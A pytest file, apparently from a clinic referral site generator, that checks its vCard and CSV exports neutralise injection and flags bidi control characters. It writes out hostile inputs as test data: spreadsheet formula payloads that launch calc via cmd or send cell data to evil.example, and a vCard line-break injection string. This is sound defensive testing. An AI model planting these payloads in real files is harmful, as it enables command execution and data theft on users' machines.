"""Exports are inert by format (issue 24, item 3).

A bare carriage return in a location name once ended the practice's own vCard early,
and a parser read a second card of the author's choosing; cells starting with `=`,
`+`, `-` or `@` reached spreadsheets as formulas from every CSV ReferKit writes. Line
breaks in one-line fields are refused at load; vCards escape every line break; every
CSV cell that a spreadsheet would run is neutralised; bidi controls are RK003.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path

import pytest
import vobject
from helpers.project import TODAY, build_site, run_build_py
from helpers.project import edit as _replace
from referkit.render.exports import location_vcard, provider_vcard, spreadsheet_cell
from referkit.source.loader import load_practice

ORG = "service_lines/_organization.yaml"
LINE = "service_lines/cardiology.yaml"


def _check(project: Path) -> list[dict]:
    result = run_build_py("check", "--project", str(project), "--format", "json", "--today", TODAY)
    assert "Traceback" not in result.stderr, result.stderr
    return json.loads(result.stdout)["findings"]


# --- one-line fields refuse line breaks at load -----------------------------------


def test_line_breaks_in_one_line_fields_are_refused_with_their_position(mini: Path) -> None:
    _replace(mini, ORG, "name: Harbor Test Clinic — Harbor Street", 'name: "Harbor\\rEND:VCARD"')
    _replace(mini, ORG, "street: 1 Harbor Street", 'street: "1 Harbor\\nStreet"')
    _replace(mini, ORG, "    name: Ada Stone", '    name: "Ada\\r\\nStone"')
    _replace(mini, LINE, "  reviewed_by: Ada Stone, MD", "  reviewed_by: |\n    Ada Stone\n    MD")
    text = (mini / ORG).read_text().splitlines()
    name_line = next(i for i, row in enumerate(text, 1) if "Harbor\\rEND" in row)
    findings = _check(mini)
    breaks = {
        (f["path"], f["field"]): f
        for f in findings
        if f["code"] == "RK102" and "line break" in f["message"]
    }
    assert set(breaks) == {
        (ORG, "locations[0].name"),
        (ORG, "locations[0].address.street"),
        (ORG, "providers[0].name"),
        (LINE, "review.reviewed_by"),
    }, findings
    name = breaks[(ORG, "locations[0].name")]
    assert (name["line"], name["col"]) == (name_line, text[name_line - 1].index('"') + 1)
    assert "U+000D" in name["message"] and "one line" in name["message"]


# --- vCards: RFC 6350 escaping is the second line of defence -----------------------


HOSTILE = "Main\rBEGIN:VCARD\r\nTEL:+1 900 555 0199\nURL:https://evil.example/\u2028x;y,z\\"


def test_a_vcard_value_with_line_breaks_stays_one_card(mini: Path) -> None:
    """Values the loader would refuse, forced into the model: the card still holds."""
    practice = load_practice(mini).practice
    assert practice is not None
    location = practice.organization.locations[0]
    address = location.address.model_copy(update={"street": HOSTILE, "city": 'La"ke^side'})
    bad_location = location.model_copy(update={"name": HOSTILE, "address": address})
    organization = practice.organization.model_copy(update={"locations": (bad_location,)})
    provider = organization.providers[0].model_copy(update={"name": HOSTILE})
    organization = organization.model_copy(update={"providers": (provider,)})
    practice = dataclasses.replace(practice, organization=organization)
    for text in (
        location_vcard(practice, bad_location, "https://clinic.example.org/"),
        provider_vcard(practice, provider, "https://clinic.example.org/"),
    ):
        assert "\r" not in text.replace("\r\n", "")  # no bare CR
        assert "\n" not in text.replace("\r\n", "")  # no bare LF
        physical = text.split("\r\n")
        assert [row for row in physical if row.startswith(("BEGIN:", "END:"))] == [
            "BEGIN:VCARD",
            "END:VCARD",
        ]
        cards = list(vobject.readComponents(text))
        assert len(cards) == 1
        card = cards[0]
        assert card.fn.value.startswith("Main\nBEGIN:VCARD\nTEL:+1 900 555 0199\nURL:")
        assert [tel.value for tel in card.contents["tel"]] == ["tel:+16085550110"] + (
            ["tel:+16085550111"] if "KIND:org" in text else []
        )
        page = "locations/harbor" if "KIND:org" in text else "providers/ada-stone"
        assert [url.value for url in card.contents["url"]] == [
            f"https://clinic.example.org/{page}/"
        ]
        adr = card.adr
        assert adr.value.street == HOSTILE.replace("\r\n", "\n").replace("\r", "\n").replace(
            "\u2028", "\n"
        )
        assert adr.value.city == 'La"ke^side'
        label = adr.params["LABEL"][0]
        assert "^n" in label and "^'" in label and "^^" in label  # RFC 6868 in the parameter


# --- CSV: every cell a spreadsheet would run is neutralised -------------------------

FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "street": "+cmd|' /C calc'!A0",
    "city": "-2+3+cmd|' /C calc'!A0",
    "region": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _neutralised(cell: str) -> str:
    """The value a cell stands for: a leading quote before a formula character goes."""
    if cell.startswith("'") and cell[1:2] in {"=", "+", "-", "@", "\t", "\r"}:
        return cell[1:]
    return cell


def _assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only a plain number may start so (a longitude, a phone)


def test_formula_cells_are_neutralised_in_every_csv(mini: Path, tmp_path: Path) -> None:
    org = mini / ORG
    text = org.read_text()
    q = json.dumps  # a JSON string is a YAML double-quoted scalar
    text = text.replace("name: Harbor Test Clinic — Harbor Street", f"name: {q(FORMULAS['name'])}")
    text = text.replace(
        "address: {street: 1 Harbor Street, city: Lakeside, region: WI, ",
        f"address: {{street: {q(FORMULAS['street'])}, city: {q(FORMULAS['city'])}, "
        f"region: {q(FORMULAS['region'])}, ",
    )
    org.write_text(text)
    _replace(mini, LINE, "reviewed_by: Ada Stone, MD", "reviewed_by: '=1+2, MD'")
    (mini / "service_lines" / "_partners.yaml").write_text(
        "partners:\n  - {id: northside, name: '@IMPORTXML(\"https://evil.example\")', "
        "code: NS-01}\n"
    )
    out = tmp_path / "site"
    built = build_site(mini, out)
    assert built.returncode == 0, built.stderr

    with (out / "exports" / "locations.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    _assert_inert(rows)
    header, row = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert header[1] == "Business name"
    assert row["Business name"] == "'" + FORMULAS["name"]
    assert {
        key: _neutralised(row[column])
        for key, column in (
            ("name", "Business name"),
            ("street", "Address line 1"),
            ("city", "Locality"),
            ("region", "Administrative area"),
        )
    } == FORMULAS
    # plain numbers are left as they are: nothing but that number can come of them
    assert (row["Latitude"], row["Longitude"], row["Primary phone"]) == (
        "43.07",
        "-89.4",
        "+16085550110",
    )

    links = run_build_py(
        "links", "--project", str(mini), "--format", "csv", "--today", TODAY
    ).stdout
    link_rows = list(csv.reader(io.StringIO(links)))
    _assert_inert(link_rows)
    assert link_rows[1][2] == '\'@IMPORTXML("https://evil.example")'

    reviews = run_build_py(
        "check", "--project", str(mini), "--reviews", "--format", "csv", "--today", TODAY
    ).stdout
    review_rows = list(csv.reader(io.StringIO(reviews)))
    _assert_inert(review_rows)
    assert dict(zip(review_rows[0], review_rows[1], strict=True))["reviewed_by"] == "'=1+2, MD"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1 608-555-0100", "'+1 608-555-0100"),
        ("-x", "'-x"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-89.4", "-89.4"),
        ("+16085550110", "+16085550110"),
        ("-12", "-12"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-3, "-3"),
    ],
)
def test_spreadsheet_cell(value: object, cell: str) -> None:
    assert spreadsheet_cell(value) == cell


# --- bidi controls are refused like other invisible characters ---------------------


@pytest.mark.parametrize(
    "char", ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2069"]
)
def test_bidi_controls_are_rk003(mini: Path, char: str) -> None:
    _replace(mini, LINE, "name: Cardiology", f"name: Cardio{char}logy")
    escaped = f"\\u{ord(char):04x}"
    _replace(
        mini,
        LINE,
        "criteria: [Ongoing chest pain at rest]",
        f'criteria: ["Ongoing {escaped} pain"]',
    )
    findings = [f for f in _check(mini) if f["code"] == "RK003"]
    assert [(f["line"], f["col"]) for f in findings] == [(1, 13), (10, 16)], findings
    assert all(f["path"] == LINE for f in findings)
    assert all("bidirectional control" in f["message"] for f in findings)


def test_right_to_left_marks_stay_allowed(mini: Path) -> None:
    _replace(mini, LINE, "search_terms: [afib]", "search_terms: [afib, \u200fقلب\u200e]")
    assert not [f for f in _check(mini) if f["code"] == "RK003"]
